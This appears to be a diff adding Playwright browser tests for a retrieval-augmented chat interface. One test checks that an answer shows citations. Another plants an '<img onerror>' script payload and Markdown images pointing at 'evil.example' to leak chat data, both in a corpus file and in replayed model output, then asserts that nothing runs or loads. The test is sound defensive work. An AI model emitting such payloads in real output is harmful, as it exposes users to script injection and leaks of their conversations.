@@ -1,0 +1,92 @@
+"""What a person sees: Debian's Chromium driven by Playwright against the served app."""
+
+import shutil
+from pathlib import Path
+
+import pytest
+
+import rag
+from ui import app as ui_app
+
+from .conftest import CORPUS, free_port
+from .fakes import ReplayChatModel
+
+pytestmark = pytest.mark.browser
+CHROMIUM = "/usr/bin/chromium"
+ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"]
+SHOTS = Path(__file__).resolve().parent / "artifacts"
+
+
+@pytest.fixture(scope="module")
+def browser():
+    if not Path(CHROMIUM).exists():
+        pytest.fail("Debian's chromium is missing: apt-get install chromium (.ci/run does)")
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as p:
+        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
+        yield b
+        b.close()
+
+
+def serve(engine):
+    port = free_port()
+    ui_app.launch(engine, port=port, block=False)
+    return f"http://127.0.0.1:{port}/"
+
+
+def ask_in_browser(page, url, question):
+    page.goto(url, wait_until="load")
+    box = page.locator("#chat").locator("xpath=ancestor::div[contains(@class,'column')][1]").get_by_role("textbox").first
+    box.fill(question)
+    box.press("Enter")
+
+
+def test_question_answer_citation_and_highlighted_source(browser, ready_settings, embedder, request):
+    """The real default model answers in the page; the marker and its highlighted quote are visible."""
+    backend = request.config.getoption("--ui-backend")
+    engine = rag.Engine(ready_settings.model_copy(update={"llm_backend": backend}), embedder=embedder)
+    url = serve(engine)
+    try:
+        page = browser.new_page(viewport={"width": 1400, "height": 900})
+        ask_in_browser(page, url, "When was the Ottawa Convention signed?")
+        page.wait_for_selector("#sources h3:has-text('Sources') ~ .source mark", timeout=300_000)
+        bot = page.locator("#chat .message.bot, #chat [data-testid='bot']").last
+        answer = bot.inner_text()
+        assert "1997" in answer and "[1]" in answer or "[2]" in answer
+        mark = page.locator("#sources .source mark").first
+        assert mark.is_visible() and mark.inner_text().strip()
+        SHOTS.mkdir(exist_ok=True)
+        page.screenshot(path=str(SHOTS / "chat.png"))
+    finally:
+        ui_app.close_all()
+
+
+def test_hostile_content_is_inert_in_the_browser(browser, tmp_path, embedder):
+    """Script in a chunk and a model that writes an <img onerror> and an external Markdown image: nothing runs or loads."""
+    shutil.copytree(CORPUS, tmp_path / "corpus")
+    (tmp_path / "corpus" / "hostile.md").write_text(
+        "# Field notes\n\nThe mine clearance unit met at dawn <img src=x onerror=alert(1)> near the river. "
+        "![leak](https://evil.example/collect?chat=secret) The unit cleared forty mines that week.\n"
+    )
+    settings = rag.Settings(corpus_dir=tmp_path / "corpus", index_dir=tmp_path / "index", llm_backend="local")
+    engine = rag.Engine(settings, embedder=embedder)
+    engine.ingest()
+    engine.__dict__["_llms"] = {
+        "local": ReplayChatModel(["The unit cleared forty mines that week [1]. <img src=x onerror=alert(2)> ![x](https://evil.example/leak.png)"])
+    }
+    url = serve(engine)
+    dialogs, outside = [], []
+    try:
+        page = browser.new_page()
+        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+        page.on("request", lambda r: outside.append(r.url) if not r.url.startswith(("http://127.0.0.1", "data:", "blob:")) else None)
+        ask_in_browser(page, url, "How many mines did the clearance unit clear that week?")
+        page.wait_for_selector("#sources h3:has-text('Sources') ~ .source", timeout=60_000)
+        page.wait_for_timeout(1000)
+        assert dialogs == [] and outside == []
+        assert page.locator("#chat img[src='x'], #sources img").count() == 0
+        assert page.locator("#chat img[src*='evil.example']").count() == 0
+        assert "forty mines" in page.locator("#chat").inner_text()
+    finally:
+        ui_app.close_all()
